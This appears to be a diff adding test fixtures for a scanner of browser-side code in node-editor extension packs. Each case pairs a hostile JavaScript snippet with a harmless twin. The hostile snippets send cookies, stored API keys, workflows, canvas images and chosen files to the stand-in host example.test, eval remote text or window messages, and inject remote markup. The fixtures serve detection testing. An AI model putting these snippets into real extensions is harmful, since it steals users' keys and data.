@@ -77,3 +77,110 @@ export const scriptPaths: Attack[] = [
     `${send}async function go() { await new Promise((done) => setTimeout(() => done(document.cookie), 50)); send("done") }\ngo()`,
   ),
 ]
+
+const get2 = 'async function get() { return (await (await fetch("https://example.test/a")).json()).next }\n'
+const api = 'import { api } from "../../scripts/api.js"\n'
+const app = 'import { app } from "../../scripts/app.js"\n'
+const feed = (text: string) =>
+  `import requests\nfrom server import PromptServer\n\n\ndef poll():\n    PromptServer.instance.send_sync("pack.feed", {"text": ${text}})\n\n\npoll()\n${init}`
+const fed = `${api}api.addEventListener("pack.feed", ({ detail }) => { document.body.innerHTML = detail.text })`
+
+/** Ends of paths in the page. */
+export const scriptEnds: Attack[] = [
+  script(
+    'shows markup from another server',
+    `${get}async function go() { document.createElement("div").innerHTML = await get() }\ngo()`,
+    'async function go() { const r = await fetch(new URL("./help.html", import.meta.url)); document.createElement("div").innerHTML = await r.text() }\ngo()',
+  ),
+  script(
+    'gives a button a handler from another server',
+    `${get}async function go() { document.createElement("button").setAttribute("onclick", await get()) }\ngo()`,
+    `${get}async function go() { document.createElement("button").setAttribute("title", await get()) }\ngo()`,
+  ),
+  script(
+    'fills a frame with a page from another server',
+    `${get}async function go() { document.createElement("iframe").setAttribute("srcdoc", await get()) }\ngo()`,
+    `${get}async function go() { document.createElement("iframe").setAttribute("srcdoc", DOMPurify.sanitize(await get())) }\ngo()`,
+  ),
+  script(
+    'has a timer run text from another server',
+    `${get}async function go() { setTimeout(await get(), 10) }\ngo()`,
+    `${get}async function go() { const t = await get(); setTimeout(() => console.log(t), 10) }\ngo()`,
+  ),
+  script(
+    'runs the text at an address that a server says',
+    `${get2}async function go() { eval(await (await fetch(await get())).text()) }\ngo()`,
+    `${get2}async function go() { console.log(await (await fetch(await get())).text()) }\ngo()`,
+  ),
+  script(
+    'puts the workflow into the names of a connection to another browser',
+    `${app}new RTCPeerConnection({ iceServers: [{ urls: "turn:example.test:3478", username: JSON.stringify(app.graph.serialize()) }] })`,
+    `${app}new RTCPeerConnection({ iceServers: [{ urls: "turn:example.test:3478", username: String(app.graph.serialize().length) }] })`,
+  ),
+  script(
+    'puts cookies into the address of a style sheet',
+    'const l = document.createElement("link"); l.href = "https://example.test/a.css?" + document.cookie; document.head.append(l)',
+    'const l = document.createElement("link"); l.href = "https://example.test/a.css?" + document.cookie.length; document.head.append(l)',
+  ),
+  script(
+    'gives the workflow to a worker that is written as a text',
+    `${app}const w = new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => fetch("https://example.test/c", { method: "POST", body: e.data })']))); w.postMessage(JSON.stringify(app.graph.serialize()))`,
+    `${app}const w = new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => postMessage(e.data.length)']))); w.postMessage(JSON.stringify(app.graph.serialize()))`,
+  ),
+  scripts(
+    'gives the workflow to a worker that sends it',
+    {
+      'main.js': `${app}const w = new Worker(new URL("./task.js", import.meta.url)); w.postMessage(JSON.stringify(app.graph.serialize()))`,
+      'task.js': 'self.onmessage = (e) => fetch("https://example.test/c", { method: "POST", body: e.data })',
+    },
+    {
+      'main.js': `${app}const w = new Worker(new URL("./task.js", import.meta.url)); w.postMessage(JSON.stringify(app.graph.serialize()))`,
+      'task.js': 'self.onmessage = (e) => fetch("/pack/c", { method: "POST", body: e.data })',
+    },
+  ),
+  script(
+    'sends a key of another pack',
+    'fetch("https://example.test/c", { headers: { a: localStorage.getItem("openai_api_key") } })',
+    'fetch("https://api.openai.com/v1", { headers: { a: localStorage.getItem("openai_api_key") } })',
+  ),
+  script(
+    'sends a key of a setting of another pack',
+    `${app}navigator.sendBeacon("https://example.test/c", app.extensionManager.setting.get("OpenAI.ApiKey"))`,
+    `${app}navigator.sendBeacon("https://example.test/c", app.extensionManager.setting.get("Pack.Theme"))`,
+  ),
+  script(
+    'sends what users type into a field for keys of any node',
+    `${app}app.registerExtension({ name: "a", nodeCreated(node) { node.addWidget("text", "api_key", "", (v) => navigator.sendBeacon("https://example.test/c", v)) } })`,
+    `${app}app.registerExtension({ name: "a", nodeCreated(node) { node.addWidget("text", "api_key", "", (v) => navigator.sendBeacon("/pack/c", v)) } })`,
+  ),
+  script(
+    'sends a picture of the canvas',
+    `${app}fetch("https://example.test/c", { method: "POST", body: app.canvas.canvas.toDataURL() })`,
+    'fetch("https://example.test/c", { method: "POST", body: document.createElement("canvas").toDataURL() })',
+  ),
+  script(
+    'sends a file that the user chose',
+    'const i = document.createElement("input"); i.type = "file"; i.onchange = async () => navigator.sendBeacon("https://example.test/c", await i.files[0].text())',
+    'const i = document.createElement("input"); i.type = "file"; i.onchange = async () => navigator.sendBeacon("/upload/image", await i.files[0].text())',
+  ),
+  script(
+    'runs messages of any window',
+    'window.addEventListener("message", (e) => eval(e.data))',
+    'window.addEventListener("message", (e) => console.log(e.data))',
+  ),
+  script(
+    'hands cookies on in a message to itself',
+    `${send}window.addEventListener("message", (e) => send(e.data)); window.postMessage(document.cookie, "*")`,
+    `${send}window.addEventListener("message", (e) => send(e.data)); window.postMessage("ready", "*")`,
+  ),
+  script(
+    'hands cookies on in the storage',
+    `${send}function keep() { localStorage.setItem("pack.a", document.cookie) }\nkeep(); send(localStorage.getItem("pack.a"))`,
+    `${send}function keep() { localStorage.setItem("pack.a", document.cookie) }\nkeep(); send(localStorage.getItem("pack.b"))`,
+  ),
+  {
+    name: 'has Python fetch markup that the page shows',
+    files: { '__init__.py': feed('requests.get("https://example.test/a").text'), 'web/main.js': fed },
+    twin: { '__init__.py': feed('"ready"'), 'web/main.js': fed },
+  },
+]
